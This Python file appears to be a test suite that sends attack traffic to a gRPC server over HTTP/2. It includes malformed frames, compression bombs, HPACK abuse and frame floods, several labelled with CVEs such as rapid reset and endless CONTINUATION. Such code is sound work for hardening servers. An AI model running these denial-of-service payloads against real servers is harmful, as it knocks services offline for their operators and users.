"""Attacks on the gRPC port: HTTP/2 that is wrong, endless, or meant to be expensive; messages that are."""

import itertools
import os
import struct

from . import bombs
from .attacks import FRAMES_MAX, on_grpc, on_grpc_raw
from .wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES_MAX,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    Wire,
    frame,
    message,
    request_headers,
    settings,
)

TLS_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(range(190))
BATCH = 100  # frames that are sent at a time


def flood(wire: Wire, frames, count: int = FRAMES_MAX) -> None:
    """So many of an iterator's frames, as fast as they are taken."""
    frames = iter(frames)
    for _ in range(count // BATCH):
        wire.send(b"".join(itertools.islice(frames, BATCH)))


def streams():
    """What a client may number its streams with."""
    return itertools.count(1, 2)


# --- not HTTP/2 at all ---


@on_grpc_raw
def random_bytes(wire: Wire) -> None:
    for _ in range(64):
        wire.send(os.urandom(1 << 14))


@on_grpc_raw
def tls_hello(wire: Wire) -> None:
    wire.send(TLS_HELLO)


@on_grpc_raw
def http1_to_grpc(wire: Wire) -> None:
    wire.send(b"POST /v1/traces HTTP/1.1\r\nHost: test\r\nContent-Length: 5\r\n\r\nhello")


@on_grpc_raw
def half_a_preface(wire: Wire) -> None:
    wire.send(PREFACE[:10])
    wire.half_close()


@on_grpc_raw
def random_frames(wire: Wire) -> None:
    wire.send(PREFACE + settings())
    for _ in range(1000):
        kind, flags, stream = os.urandom(1)[0] % 12, os.urandom(1)[0], int.from_bytes(os.urandom(2), "big")
        wire.send(frame(kind, flags, stream, os.urandom(os.urandom(1)[0])))


@on_grpc
def frame_too_long(wire: Http2) -> None:
    wire.open(1)
    wire.send(frame(DATA, 0, 1, b"x" * 100, length=0xFFFFFF))


# --- messages ---


@on_grpc
def length_4gib(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(b"", length=0xFFFFFFFF), end=False)
    while not wire.answered:
        wire.send_data(1, b"x", end=False)


@on_grpc
def length_beyond_the_limit(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(b"", length=(64 << 20) + 1), end=False)
    wire.send_data(1, b"\x0a" + bytes(1 << 20), end=False)


@on_grpc
def message_beyond_the_limit(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(bytes(65 << 20)))


@on_grpc
def message_cut_off(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(b"\x0a\x05abc", length=5000))


@on_grpc
def many_messages_in_a_call(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(b"") * 20000)


def bomb(wire: Http2, encoding: str, payload: bytes) -> None:
    wire.open(1, request_headers(encoding))
    wire.send_data(1, message(payload, compressed=True))


@on_grpc
def gzip_bomb(wire: Http2) -> None:
    bomb(wire, "gzip", bombs.compressed("gzip", 1 << 27))


@on_grpc
def deflate_bomb(wire: Http2) -> None:
    bomb(wire, "deflate", bombs.compressed("deflate", 1 << 27))


@on_grpc
def zstd_bomb(wire: Http2) -> None:
    bomb(wire, "zstd", bombs.compressed("zstd", 1 << 34))


@on_grpc
def snappy_bomb(wire: Http2) -> None:
    bomb(wire, "snappy", bombs.compressed("snappy", 1 << 27))


@on_grpc
def nested_values(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(bombs.nested_values(100_000)))


@on_grpc
def a_million_groups(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(bombs.empty_groups(1_100_000)))


# --- headers ---


@on_grpc
def large_headers(wire: Http2) -> None:
    """64 KB in frames of the allowed size."""
    block = wire.encoder.encode(request_headers() + [(f"x-{n}", os.urandom(500).hex()) for n in range(64)])
    parts = [block[start : start + FRAME_BYTES_MAX] for start in range(0, len(block), FRAME_BYTES_MAX)]
    wire.send(frame(HEADERS, END_STREAM, 1, parts[0]))
    for part in parts[1:-1]:
        wire.send(frame(CONTINUATION, 0, 1, part))
    wire.send(frame(CONTINUATION, END_HEADERS, 1, parts[-1]))


@on_grpc
def endless_continuation(wire: Http2) -> None:
    """CVE-2024-27316 and its relatives: header fields that never end."""
    wire.send(frame(HEADERS, 0, 1, wire.encoder.encode(request_headers())))
    literal = b"\0\x03x-y\x7f" + b"\x0a" + b"z" * 137  # not indexed, so that nothing is evicted
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1, literal)))


@on_grpc
def empty_continuation(wire: Http2) -> None:
    wire.send(frame(HEADERS, 0, 1, wire.encoder.encode(request_headers())))
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1)))


@on_grpc
def hpack_references(wire: Http2) -> None:
    """One large entry of the dynamic table, and thousands of references to it: 4 KB a byte."""
    entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, wire.encoder.encode(request_headers()) + entry))
    newest = b"\xbe"  # index 62
    for stream in range(3, 203, 2):
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, newest * FRAME_BYTES_MAX))
    while wire.said.total() <= 100:
        wire.wait()


@on_grpc
def hpack_string_1gib(wire: Http2) -> None:
    """CVE-2023-33953: a string whose announced length is kept for."""
    length = b"\x7f" + bombs.varint((1 << 30) - 127)
    wire.send(frame(HEADERS, 0, 1, wire.encoder.encode(request_headers()) + b"\0\x01x" + length))
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES_MAX)), 4000)


@on_grpc
def hpack_varints(wire: Http2) -> None:
    """Numbers of any length, whose value stays small."""
    wire.send(frame(HEADERS, 0, 1, b"\xff" + b"\x80" * 1000))
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1, b"\x80" * FRAME_BYTES_MAX)), 1000)


@on_grpc
def hpack_table_sizes(wire: Http2) -> None:
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x20\x3f\xe1\x1f" * 4000))


FILLER = [(f"x-{number}", "y" * 900) for number in range(12)]  # together more than 8 KB


@on_grpc
def odd_header_then_8kb(wire: Http2) -> None:
    """CVE-2023-1428, CVE-2023-32731: each of these brought gRPC core to abort() or lost track of a size."""
    for stream, odd in zip(streams(), ({"te": "x"}, {":scheme": "x"}, {"grpclb_client_stats": "x"})):
        wire.open(stream, request_headers(**odd) + FILLER, end=True)


@on_grpc
def bad_base64(wire: Http2) -> None:
    """CVE-2023-32732, CVE-2024-7246: a binary header that is none, then a call like any other."""
    wire.open(1, request_headers(**{"x-bin": "not base64!"}), end=True)
    wire.open(3, request_headers(**{"x-after": "this"}))
    wire.send_data(3, message(b""))


@on_grpc
def odd_headers(wire: Http2) -> None:
    """Each is malformed by RFC 9113, some are known from smuggling."""
    odd = [
        request_headers(**{"transfer-encoding": "chunked"}),
        request_headers(**{"connection": "keep-alive"}),
        request_headers(**{"X-Upper": "case"}),
        request_headers(**{"content-length": "5"}),
        request_headers(**{"content-length": "-1"}),
        request_headers(**{":path": "/ HTTP/1.1\r\nx: y"}),
        request_headers(**{"x": "a\r\nb\0c"}),
        request_headers(**{":unknown": "pseudo"}),
        request_headers()[::-1],
        [("x", "no pseudo headers")],
        request_headers() + [(":path", "/again")],
        request_headers(**{"te": "trailers, chunked"}),
    ]
    for stream, headers in zip(streams(), odd):
        wire.open(stream, headers, end=True)
    while wire.said.total() < len(odd):
        wire.wait()


# --- floods ---


@on_grpc
def settings_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(settings((3, 100), (4, 65535))))


@on_grpc
def settings_table_flood(wire: Http2) -> None:
    flood(wire, itertools.cycle([settings((1, 0)), settings((1, 1 << 30))]))


@on_grpc
def settings_ack_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(frame(SETTINGS, ACK, 0)))


@on_grpc
def ping_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(frame(PING, 0, 0, b"attacker")))


@on_grpc
def ping_flood_never_read(wire: Http2) -> None:
    """CVE-2019-9512: the answers pile up."""
    wire.reading = False
    flood(wire, itertools.repeat(frame(PING, 0, 0, b"attacker")), 10 * FRAMES_MAX)


@on_grpc
def priority_storm(wire: Http2) -> None:
    numbers = itertools.cycle(range(1, 2001, 2))
    flood(wire, (frame(PRIORITY, 0, number, struct.pack(">IB", number + 2, 7)) for number in numbers))


@on_grpc
def empty_data_flood(wire: Http2) -> None:
    """CVE-2019-9518."""
    wire.open(1)
    flood(wire, itertools.repeat(frame(DATA, 0, 1)))


@on_grpc
def padding_flood(wire: Http2) -> None:
    wire.open(1)
    flood(wire, itertools.repeat(frame(DATA, 0x8, 1, b"\xff" + bytes(255))))


@on_grpc
def unknown_frames_flood(wire: Http2) -> None:
    flood(wire, itertools.repeat(frame(0xFA, 0xFF, 1, b"x" * 200)))


@on_grpc
def window_update_flood(wire: Http2) -> None:
    wire.open(1)
    flood(wire, itertools.repeat(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))))


@on_grpc
def rapid_reset(wire: Http2) -> None:
    """CVE-2023-44487."""
    cancel = struct.pack(">I", 8)
    flood(wire, (wire.headers(stream) + frame(RST_STREAM, 0, stream, cancel) for stream in streams()))


@on_grpc
def made_to_reset(wire: Http2) -> None:
    """CVE-2025-8671: the server is brought to do the resetting."""
    zero = struct.pack(">I", 0)
    flood(wire, (wire.headers(stream) + frame(WINDOW_UPDATE, 0, stream, zero) for stream in streams()))


@on_grpc
def streams_never_ended(wire: Http2) -> None:
    flood(wire, map(wire.headers, streams()), 5000)


@on_grpc
def refused_calls_flood(wire: Http2) -> None:
    """Calls of another service, ended at once."""
    elsewhere = request_headers(**{":path": "/other.Service/Call"})
    flood(wire, (wire.headers(stream, elsewhere, end=True) for stream in streams()), 5000)
    while wire.said.total() < 5000:
        wire.wait()


# --- windows, streams and ends ---


@on_grpc
def frames_behind_an_error(wire: Http2) -> None:
    """CVE-2026-27135: what follows in the same packet when the connection is given up already."""
    broken = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))
    altsvc = frame(0xA, 0, 0, struct.pack(">H", 4) + b"testh2")
    priority_update = frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=2")
    wire.send((broken + altsvc + priority_update + wire.headers(1) + settings() + frame(DATA, 0, 1, b"x")) * 10)


@on_grpc
def answers_never_read(wire: Http2) -> None:
    """No window for an answer, and a hundred calls."""
    wire.send(settings((4, 0)))
    for stream in range(1, 201, 2):
        wire.open(stream)
        wire.send_data(stream, message(b""))
    wire.reading = False
    wire.wait()


@on_grpc
def window_overflow(wire: Http2) -> None:
    wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2)


@on_grpc
def window_zero(wire: Http2) -> None:
    wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))


@on_grpc
def window_ignored(wire: Http2) -> None:
    """More than any window allows, without waiting for it."""
    wire.open(1)
    flood(wire, itertools.repeat(frame(DATA, 0, 1, bytes(FRAME_BYTES_MAX))), 2000)


@on_grpc
def data_on_stream_0(wire: Http2) -> None:
    wire.send(frame(DATA, 0, 0, b"hello"))


@on_grpc
def data_on_idle_stream(wire: Http2) -> None:
    wire.send(frame(DATA, 0, 99, b"hello"))


@on_grpc
def reset_of_unknown_streams(wire: Http2) -> None:
    flood(wire, (frame(RST_STREAM, 0, stream, bytes(4)) for stream in streams()))


@on_grpc
def streams_going_back(wire: Http2) -> None:
    for stream in (9, 7, 5, 2):
        wire.open(stream)


@on_grpc
def half_closed_in_a_message(wire: Http2) -> None:
    wire.open(1)
    wire.send_data(1, message(b"\x0a", length=1000), end=False)
    wire.half_close()


@on_grpc
def half_closed_after_the_preface(wire: Http2) -> None:
    wire.half_close()
